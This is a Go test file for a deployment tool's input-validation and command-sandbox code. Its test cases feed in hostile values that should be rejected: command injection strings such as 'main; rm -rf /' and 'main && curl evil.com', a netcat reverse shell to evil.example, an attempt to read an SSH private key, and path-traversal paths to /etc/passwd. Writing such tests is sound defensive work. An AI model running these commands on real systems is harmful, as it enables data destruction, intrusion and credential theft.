package security

import (
	"path/filepath"
	"strings"
	"testing"

	"padeploy/internal/security"
)

// TestBranchNameInjectionPrevention validates branch name sanitization
func TestBranchNameInjectionPrevention(t *testing.T) {
	tests := []struct {
		name      string
		branch    string
		wantError bool
		errorMsg  string
	}{
		{
			name:      "valid branch name",
			branch:    "main",
			wantError: false,
		},
		{
			name:      "valid branch with slash",
			branch:    "feature/new-feature",
			wantError: false,
		},
		{
			name:      "valid branch with dash",
			branch:    "fix-bug-123",
			wantError: false,
		},
		{
			name:      "command injection with semicolon",
			branch:    "main; rm -rf /",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "command injection with pipe",
			branch:    "main | cat /etc/passwd",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "command injection with ampersand",
			branch:    "main && curl evil.com",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "branch starting with dash",
			branch:    "-main",
			wantError: true,
			errorMsg:  "cannot start with '-'",
		},
		{
			name:      "empty branch name",
			branch:    "",
			wantError: true,
			errorMsg:  "cannot be empty",
		},
		{
			name:      "branch with backticks",
			branch:    "main`whoami`",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "branch with command substitution",
			branch:    "main$(id)",
			wantError: true,
			errorMsg:  "invalid characters",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := security.ValidateBranchName(tt.branch)

			if tt.wantError {
				if err == nil {
					t.Errorf("Expected error for branch %s, but got none", tt.branch)
				} else if !strings.Contains(err.Error(), tt.errorMsg) {
					t.Errorf("Expected error containing '%s', got '%s'", tt.errorMsg, err.Error())
				}
			} else {
				if err != nil {
					t.Errorf("Expected no error for branch %s, but got: %v", tt.branch, err)
				}
			}
		})
	}
}

// TestTargetNameInjectionPrevention validates target name sanitization
func TestTargetNameInjectionPrevention(t *testing.T) {
	tests := []struct {
		name      string
		target    string
		wantError bool
		errorMsg  string
	}{
		{
			name:      "valid target name",
			target:    "my-app",
			wantError: false,
		},
		{
			name:      "valid with underscore",
			target:    "my_app",
			wantError: false,
		},
		{
			name:      "command injection with semicolon",
			target:    "app; rm -rf /",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "command injection with pipe",
			target:    "app | cat /etc/passwd",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "path traversal",
			target:    "../../../etc/passwd",
			wantError: true,
			errorMsg:  "cannot start with '-' or '.'",
		},
		{
			name:      "slash in name",
			target:    "app/name",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "empty target name",
			target:    "",
			wantError: true,
			errorMsg:  "cannot be empty",
		},
		{
			name:      "target with backticks",
			target:    "app`whoami`",
			wantError: true,
			errorMsg:  "invalid characters",
		},
		{
			name:      "target starting with dash",
			target:    "-app",
			wantError: true,
			errorMsg:  "cannot start with '-'",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := security.ValidateTargetName(tt.target)

			if tt.wantError {
				if err == nil {
					t.Errorf("Expected error for target %s, but got none", tt.target)
				} else if !strings.Contains(err.Error(), tt.errorMsg) {
					t.Errorf("Expected error containing '%s', got '%s'", tt.errorMsg, err.Error())
				}
			} else {
				if err != nil {
					t.Errorf("Expected no error for target %s, but got: %v", tt.target, err)
				}
			}
		})
	}
}

// TestCommandAllowListEnforcement validates the deployment command sandbox
func TestCommandAllowListEnforcement(t *testing.T) {
	e := security.NewSandboxedExecutor(t.TempDir())

	tests := []struct {
		name      string
		cmd       []string
		wantError bool
	}{
		{
			name: "git pull allowed",
			cmd:  []string{"git", "pull", "origin", "main"},
		},
		{
			name: "venv pip by absolute path allowed",
			cmd:  []string{"/home/alice/app/venv/bin/pip", "install", "-r", "requirements.txt"},
		},
		{
			name:      "arbitrary binary rejected",
			cmd:       []string{"nc", "-e", "/bin/sh", "evil.example", "4444"},
			wantError: true,
		},
		{
			name:      "shell escape in argument rejected",
			cmd:       []string{"git", "pull", "origin", "main; curl evil.example"},
			wantError: true,
		},
		{
			name:      "variable expansion rejected",
			cmd:       []string{"python3", "$HOME/.ssh/id_rsa"},
			wantError: true,
		},
		{
			name:      "redirect rejected",
			cmd:       []string{"cp", "/etc/passwd", "> /tmp/out"},
			wantError: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := e.ValidateCommandParts(tt.cmd)
			if tt.wantError && err == nil {
				t.Errorf("Expected %v to be rejected", tt.cmd)
			}
			if !tt.wantError && err != nil {
				t.Errorf("Expected %v to be allowed, got: %v", tt.cmd, err)
			}
		})
	}
}

// TestBackupPathTraversalPrevention validates that restore and sweep are
// confined to the backup directory
func TestBackupPathTraversalPrevention(t *testing.T) {
	base := t.TempDir()

	tests := []struct {
		name      string
		target    string
		wantError bool
	}{
		{
			name:   "artifact inside backup dir",
			target: filepath.Join(base, "goal_tracker_20250101_120000.db"),
		},
		{
			name:      "traversal with ../",
			target:    filepath.Join(base, "..", "escape.db"),
			wantError: true,
		},
		{
			name:      "absolute path outside base",
			target:    "/etc/passwd",
			wantError: true,
		},
		{
			name:      "multiple ../ traversal",
			target:    filepath.Join(base, "..", "..", "..", "etc", "passwd"),
			wantError: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := security.EnsureWithin(base, tt.target)
			if tt.wantError {
				if err == nil {
					t.Errorf("Expected error for target %s, but got none", tt.target)
				} else if !strings.Contains(err.Error(), "path traversal detected") {
					t.Errorf("Expected traversal error, got: %v", err)
				}
			} else if err != nil {
				t.Errorf("Expected no error for target %s, but got: %v", tt.target, err)
			}
		})
	}
}
